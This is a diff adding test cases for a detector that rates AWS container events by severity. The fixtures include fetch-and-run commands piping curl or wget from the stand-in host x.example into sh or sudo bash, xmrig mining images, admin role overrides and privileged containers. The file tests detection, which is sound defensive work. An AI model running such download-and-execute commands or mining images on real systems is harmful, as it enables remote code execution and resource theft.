@@ -5,6 +5,12 @@ import detection from './container-command.js';
 
 const REGISTER = 'ecs:RegisterTaskDefinition';
 const task = (...command: string[]) => ({ family: 'web', containerDefinitions: [{ name: 'c', command }] });
+const image = (name: string) => ({ family: 'web', containerDefinitions: [{ name: 'c', image: name }] });
+const privileged = { containerDefinitions: [{ image: 'agent', privileged: true }] };
+const overrides = (container: object) => ({
+  taskDefinition: 'orders:88',
+  overrides: { taskRoleArn: 'arn:aws:iam::111122223333:role/admin', containerOverrides: [container] },
+});
 
 it.each([
   ['an ordinary command', awsEvent(REGISTER, task('node', 'server.js')), 'log/low'],
@@ -40,6 +46,47 @@ it.each([
     awsEvent('batch:SubmitJob', { jobName: 'j', containerOverrides: { command: ['xmrig'] } }),
     'alert/high',
   ],
+  ['mining, by its image', awsEvent(REGISTER, image('docker.io/xmrig/xmrig:latest')), 'alert/high'],
+  ['mining, by its image, by a machine', awsEvent(REGISTER, image('x/xmrig'), DEPLOY), 'alert/high'],
+  ['an image that mines data', awsEvent(REGISTER, image('acme/process-miner')), 'log/low'],
+  ['running a download', awsEvent(REGISTER, task('sh', '-c', 'curl http://x.example/a|sh')), 'notify/medium'],
+  [
+    'running a download, by a machine',
+    awsEvent(REGISTER, task('sh', '-c', 'wget -qO- "http://x.example/a?b&c" | sudo /bin/bash -s'), DEPLOY),
+    'notify/medium',
+  ],
+  [
+    'running a download, put in',
+    awsEvent(REGISTER, task('bash', '-c', 'bash <(curl -s x.example)')),
+    'notify/medium',
+  ],
+  [
+    'running a download, as words',
+    awsEvent(REGISTER, task('sh', '-c', '$(curl -s x.example)')),
+    'notify/medium',
+  ],
+  ['looking at a download', awsEvent(REGISTER, task('curl x.example | jq . || sh help')), 'log/low'],
+  [
+    'a download in a variable',
+    awsEvent(REGISTER, task('sh', '-c', 'IP=$(curl x.example) node .')),
+    'log/low',
+  ],
+  ['another role and command', awsEvent('ecs:RunTask', overrides({ command: ['x'] })), 'notify/medium'],
+  ['the same as a start', awsEvent('ecs:StartTask', overrides({ command: ['x'] })), 'notify/medium'],
+  ['the same by a machine', awsEvent('ecs:RunTask', overrides({ command: ['x'] }), DEPLOY), 'log/low'],
+  [
+    'another role and command, refused',
+    awsEvent('ecs:RunTask', overrides({ command: ['x'] }), DENIED),
+    'log/medium',
+  ],
+  ['another role only', awsEvent('ecs:RunTask', overrides({ name: 'c' })), 'log/low'],
+  [
+    'another command only',
+    awsEvent('ecs:RunTask', { overrides: { containerOverrides: [{ command: ['run'] }] } }),
+    'log/low',
+  ],
+  ['privileged', awsEvent(REGISTER, privileged), 'notify/medium'],
+  ['privileged, by a machine', awsEvent(REGISTER, privileged, DEPLOY), 'log/low'],
   ['an ordinary job', awsEvent('batch:SubmitJob', { jobName: 'j' }), 'log/low'],
   ['a shell', awsEvent('ecs:ExecuteCommand', { task: 't' }), 'notify/low'],
   ['a failed try', awsEvent(REGISTER, task('xmrig'), DENIED), 'notify/high'],
